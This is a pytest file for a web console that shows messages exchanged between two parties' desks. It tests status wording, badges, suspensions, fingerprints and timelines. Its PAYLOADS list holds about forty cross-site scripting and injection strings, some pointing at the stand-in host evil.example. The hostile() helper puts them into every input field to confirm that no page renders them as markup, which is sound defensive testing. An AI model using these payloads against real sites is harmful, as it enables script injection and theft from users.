"""What the pages say: DESIGN's words, states that cannot be confused, and nobody's markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from importlib.resources import files
from typing import Any

import pytest

from tieline.observer import read_text, to_bodies
from tieline.replication import founding
from tieline.replication.effects import Tell

INSIDE = re.compile(r"\b(?:blob|leaf|leaves|fold|folded|checkpoint|head)s?\b", re.IGNORECASE)

BADGE = re.compile(
    r'<strong class="standing standing-([a-z-]+)">\s*<svg.*?<path d="([^"]+)".*?</svg>\s*([^<]+)',
    re.DOTALL,
)

PAYLOADS = [
    "<script>xss7()</script>",
    "<img src=x onerror=xss7()>",
    "<svg/onload=xss7()>",
    '"><svg onload=xss7()>',
    "'><img src=x onerror=xss7()>",
    "</p></bdi></span><script>xss7()</script>",
    "</title><script>xss7()</script>",
    "</textarea><xss7 autofocus onfocus=alert(1)>",
    "</style><script>xss7()</script>",
    "<!--><script>xss7()</script>",
    "<iframe srcdoc='<script>parent.xss7()</script>'>",
    "<a href=javascript:xss7()>x</a>",
    "javascript:xss7()",
    "data:text/html,<script>xss7()</script>",
    "<form action=//evil.example/xss7><button>x",
    "<base href=//evil.example/xss7>",
    "<link rel=stylesheet href=//evil.example/xss7.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/xss7'>",
    "<object data=xss7><embed src=xss7>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=xss7()>",
    "<details open ontoggle=xss7()>",
    "<video><source onerror=xss7()>",
    "{{ 7 * 191 }}{% raw %}xss7",
    "${7*191}#{7*191}xss7",
    "&lt;script&gt;xss7()&lt;/script&gt;",
    "&#60;script&#62;xss7()",
    '" onmouseover="xss7()',
    "' style='x:expression(xss7())",
    "` onclick=xss7() `",
    "]]><script>xss7()</script>",
    "\u202e<script>xss7()</script>",
    "<scr\x00ipt>xss7()</scr\x00ipt>",
    "＜script＞xss7()＜/script＞",
    "\ufeff<script>xss7()</script>",
    "<x onpointerrawupdate=xss7()>",
    "<input autofocus onfocus=xss7()>",
    "<body onload=xss7()>",
    "<noscript><p title='</noscript><img src=x onerror=xss7()>'>",
    "<template><script>xss7()</script></template>",
    '-->\'"/></sCript><svG x=">" onload=(xss7)``>',
]


class Markup(HTMLParser):
    """Every tag with its attributes, and the visible text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in {"a", "bdi", "span", "strong", "time"}:
            self.text += " "

    def handle_data(self, data: str) -> None:
        self.text += data


def words(page: str) -> str:
    return " ".join(Markup(page).text.split())


def card(page: str, title: str) -> str:
    """The text of one message on the overview."""
    cards = re.findall(r"<article.*?</article>", page, re.DOTALL)
    (found,) = [words(c) for c in cards if title in words(c)]
    return found


def test_a_message_is_shown_as_far_as_it_is_proven(inside: Any, pair: Any) -> None:
    ref = pair.message(pair.alpha, "Ship closing", {"en": "State your intentions."}, level="FLASH")
    shown = card(inside.text("/"), "Ship closing")
    assert "held by their system" in shown
    assert "not taken yet" in shown
    assert "not answered yet" in shown
    assert "taken by" not in shown

    pair.say(pair.bravo, "message.take", {"note": "bridge told"}, case=ref)
    shown = card(inside.text("/"), "Ship closing")
    assert "taken by bravo/watch" in shown
    assert "bridge told" in shown
    assert "not answered yet" in shown


def test_what_never_left_is_not_shown_as_held(inside: Any, pair: Any) -> None:
    pair.is_cut = True
    pair.message(pair.alpha, "Ship closing", {"en": "State your intentions."})
    shown = card(inside.text("/"), "Ship closing")
    assert "not known to be held by their system" in shown
    assert " held by their system" not in shown.replace("not known to be held by their system", "")


def test_a_message_to_us_waits_for_us_with_clocks(inside: Any, pair: Any) -> None:
    pair.message(pair.bravo, "越线 Crossing", {"zh": "请说明。", "en": "Explain."}, level="FLASH")
    page = inside.text("/")
    shown = card(page, "越线 Crossing")
    assert "waiting for us" in shown
    assert "not taken by us yet" in shown
    assert "before their machine calls our next office" in shown
    assert 'lang="zh-Hans"' in page
    assert "Chinese (zh) original" in shown
    assert "1 waiting for us 1 FLASH" in words(page)
    assert "(1) waiting for us" in page.partition("</title>")[0]


def five(pair: Any) -> dict[str, str]:
    """Five messages of ours in five states of silence, by the state that each must show."""
    alpha, bravo = pair.alpha, pair.bravo
    texts = {"en": "Say something."}
    declined = pair.message(alpha, "subject declined", texts)
    pair.say(bravo, "message.decline", {"reason": "not now"}, case=declined)
    pair.message(alpha, "subject vacant", texts, to="desk", channel="notification")
    body = {"channel": "dialogue", "reason": "an incident", "conditions": ["an account"]}
    pair.message(alpha, "subject silent", texts, level="FLASH", channel="safety")
    pair.say(bravo, "suspension.declare", body)
    pair.message(alpha, "subject suspended", texts, level="IMMEDIATE")
    pair.is_cut = True
    pair.message(alpha, "subject lost", texts, level="FLASH", channel="safety")
    pair.pass_s(130, step_s=5)
    return {
        "subject silent": "no answer",
        "subject declined": "declined",
        "subject lost": "technical fault",
        "subject suspended": "suspended",
        "subject vacant": "vacant",
    }


def test_five_kinds_of_silence_are_five_words_and_five_shapes(inside: Any, pair: Any) -> None:
    expected = five(pair)
    page = inside.text("/")
    shapes = {kind: (path, label.strip()) for kind, path, label in BADGE.findall(page)}
    for title, state in expected.items():
        part = page[page.index(title) :]
        first = re.search(r'class="standing standing-([a-z-]+)"', part)
        assert first is not None
        assert first[1] == state.replace(" ", "-"), title
        assert shapes[first[1]][1] == state
    wanted = {state.replace(" ", "-") for state in expected.values()}
    assert len({shapes[kind][0] for kind in wanted}) == 5


def test_a_suspension_names_author_reason_and_conditions(inside: Any, pair: Any) -> None:
    body = {"channel": "dialogue", "reason": "海上事件 an incident", "conditions": ["an account"]}
    pair.say(pair.bravo, "suspension.declare", body)
    shown = words(inside.text("/"))
    assert "suspended by bravo/watch since 20:00" in shown
    assert "海上事件 an incident" in shown
    assert "Conditions: an account" in shown
    assert "safety open nobody can suspend it" in shown


def test_marks_are_words_before_anything_else(inside: Any, pair: Any) -> None:
    for mark in ("ACTUAL", "EXERCISE", "TEST"):
        pair.message(pair.bravo, f"subject {mark.lower()}", {"en": "x"}, mark=mark)
    page = inside.text("/")
    assert card(page, "subject exercise").startswith("EXERCISE · EXERCISE · EXERCISE not for real")
    assert card(page, "subject test").startswith("TEST · TEST · TEST not for real")
    assert "not for real" not in card(page, "subject actual")
    assert "ACTUAL" in card(page, "subject actual")


def test_a_link_that_is_down_says_carry_a_pouch(inside: Any, pair: Any) -> None:
    assert "carry a pouch" not in inside.text("/")
    pair.is_cut = True
    pair.pass_s(120, step_s=5)
    shown = words(inside.text("/"))
    assert "1 links down bravo: carry a pouch" in shown
    assert "down heard" in shown


def test_brackets_show_each_sides_own_words(inside: Any, pair: Any, clauses: Any) -> None:
    case = pair.agree(clauses)
    for desk, hours in ((pair.alpha, 12), (pair.bravo, 24)):
        clause = {"id": "tests", "title": "Tests", "text": f"every {hours} hours", "terms": ""}
        pair.say(desk, "framework.draft", {"clauses": [clause], "note": ""}, case=case)
    page = words(inside.text(f"/line/{pair.line.rpartition('/')[2]}/framework"))
    assert "1, signed by alpha and bravo" in page
    assert "[ tests ] in brackets: not agreed alpha Tests every 12 hours bravo Tests" in page
    assert "Text in force, version 1" in page
    assert "1 of 4 clauses in brackets" in words(inside.text("/"))


def test_parties_show_fingerprints_in_groups_of_five(inside: Any, pair: Any) -> None:
    page = inside.text(f"/line/{pair.line.rpartition('/')[2]}/parties")
    groups = re.findall(r"<span>([0-9]{5})</span>", page)
    digits = pair.alpha.card.fingerprint + pair.bravo.card.fingerprint
    assert "".join(groups) == digits
    shown = words(page)
    assert "2 may sign" in shown
    assert "Desk vacant" in shown
    assert "first" not in shown, "labels of persons stay in the house"


def test_a_message_in_full_has_evidence_for_every_step(inside: Any, pair: Any) -> None:
    texts = {"zh": "收到请回复。", "en": "Reply.", "fr": "Répondez."}
    ref = pair.message(pair.alpha, "Port visit", texts, files={"route.pdf": b"x" * 2_500})
    pair.say(pair.bravo, "message.take", {"note": ""}, case=ref)
    answer = {"texts": [{"lang": "zh", "text": "同意。", "original": "yes"}], "codes": []}
    step = pair.say(pair.bravo, "message.answer", answer, case=ref)
    line = pair.line.rpartition("/")[2]
    page = inside.text(f"/line/{line}/message/{ref}")
    shown = words(page)
    assert re.findall(r'class="words" lang="([^"]*)"', page) == ["zh-Hans", "en", "fr", "zh-Hans"]
    assert "their system's signed receipt" in shown
    assert "answered by bravo/watch" in shown
    assert "同意。" in shown
    assert "route.pdf application/pdf, 2.5 kB" in shown
    assert f"{step} is a step in this" in words(inside.text(f"/line/{line}/message/{step}"))


def test_the_timeline_leaves_machines_out_unless_asked(inside: Any, pair: Any) -> None:
    pair.message(pair.bravo, "Port visit", {"en": "x"})
    pair.pass_s(5)
    path = f"/line/{pair.line.rpartition('/')[2]}/timeline"
    assert "bravo/watch said: Port visit" in words(inside.text(path))
    assert "entries" not in words(inside.text(path))
    assert "alpha/node opened" in words(inside.text(f"{path}?machines=yes"))


def hostile(pair: Any) -> None:
    """Payloads in every field that the other side can fill."""
    alpha, bravo = pair.alpha, pair.bravo
    joined = "\n".join(PAYLOADS)
    short = [p for p in PAYLOADS if len(p) <= 60]
    clause = {"id": "codes", "title": PAYLOADS[5], "text": joined, "terms": f"K = '''{short[0]}'''"}
    case = pair.agree([clause])
    draft = {"clauses": [{"id": "x", "title": p, "text": p, "terms": ""} for p in PAYLOADS[:1]]}
    pair.say(bravo, "framework.draft", draft | {"note": joined[:1_000]}, case=case)
    ref = ""
    for first in range(0, len(PAYLOADS), 5):
        five = PAYLOADS[first : first + 5]
        ref = pair.message(
            bravo,
            "".join(five)[:300],
            {"en": joined, "x-" + "a" * 8: joined},
            codes=["K", *(p[:64] for p in five)],
            files={p[:200]: b"x" for p in five},
        )
    pair.say(alpha, "message.decline", {"reason": joined[:1_900]}, case=ref)
    pair.say(
        bravo,
        "suspension.declare",
        {"channel": "dialogue", "reason": joined[:1_900], "conditions": PAYLOADS[:16]},
    )
    pair.message(bravo, "last", {'"><img/onerror=xss7()>': joined})


def test_no_text_of_anybody_becomes_markup(inside: Any, pair: Any) -> None:
    hostile(pair)
    pages = inside.every_page()
    assert len(pages) > 20
    for path, page in pages.items():
        markup = Markup(page)
        for tag, attributes in markup.tags:
            assert "xss7" not in tag, path
            assert not [name for name in attributes if name.startswith("on")], path
            assert "style" not in attributes, path
            for name in {"href", "src", "action"} & set(attributes):
                assert re.match(r"[/#?]|data:,$", attributes[name]), f"{path}: {attributes[name]}"
            if tag == "script":
                assert attributes["src"] == "/static/console.js", path
        assert "1337" not in markup.text, path
        tags = {tag for tag, _ in markup.tags}
        assert not tags & {"iframe", "object", "embed", "base", "video", "template", "math"}, path
        assert "\u202e" not in page, path
        assert "\x00" not in page, path


def test_the_words_of_the_inside_never_appear(inside: Any, pair: Any, clauses: Any) -> None:
    pair.agree(clauses)
    five(pair)
    seat = pair.alpha.node.seat(pair.line)
    alarm = Tell(event="alarm", words="refused: checkpoint, leaf and blob; folded head", party="")
    assert "1 does not fit 1 alarm" not in words(inside.text("/"))
    pair.alpha.node._journal(seat, alarm)
    assert "1 does not fit 1 alarm" in words(inside.text("/"))
    for path, page in inside.every_page().items():
        assert INSIDE.findall(words(page)) == [], path


SAMPLE = "talks-2017-2024.txt"


@pytest.fixture
def record(pair: Any) -> str:
    """An observer's record on a line of alpha alone; the line's part in addresses."""
    line = founding.new_line_id(pair.alpha.node.entropy)
    pair.alpha.join(line, "Talks as reported", {"alpha": pair.alpha.card.fingerprint})
    text = (files("tieline.observer") / "samples" / SAMPLE).read_bytes()
    for kind, body in to_bodies(read_text(text).record)[:60]:
        pair.say(pair.alpha, kind, {"item": body}, line=line)
    return f"/line/{line.rpartition('/')[2]}"


def test_an_observers_record_is_shown_for_a_day(inside: Any, record: str) -> None:
    assert "how things stood on any day" in words(inside.text("/"))
    page = words(inside.text(f"{record}/record?on=2018-12-01&known_on=2019-01-01"))
    assert "On 2018-12-01, from what was known by 2019-01-01" in page
    assert "source 000" in page
    drawn = inside.client.get(f"{record}/record.svg")
    assert drawn.headers["content-type"] == "image/svg+xml"
    assert drawn.headers["content-security-policy"].startswith("default-src 'none'")
    assert "script-src" not in drawn.headers["content-security-policy"]


@pytest.mark.parametrize("query", ["on=yesterday", "on=2018-02-30", "on=2018-01-01&known_on=<b>"])
def test_a_day_that_is_none_is_explained(inside: Any, record: str, query: str) -> None:
    answer = inside.client.get(f"{record}/record?{query}")
    assert answer.status_code == 400
    assert "not a day" in answer.text or "no day" in answer.text
    assert "<b>" not in answer.text


def test_every_page_tells_when_it_was_made_and_when_access_ends(inside: Any, pair: Any) -> None:
    page = inside.text("/")
    assert "as of 20:00:0" in words(page)
    assert '<meta http-equiv="refresh" content="5">' in page
    assert "NOT UP TO DATE" in page
    assert "Access ends 2026-11-22 08:00:0" in words(page)
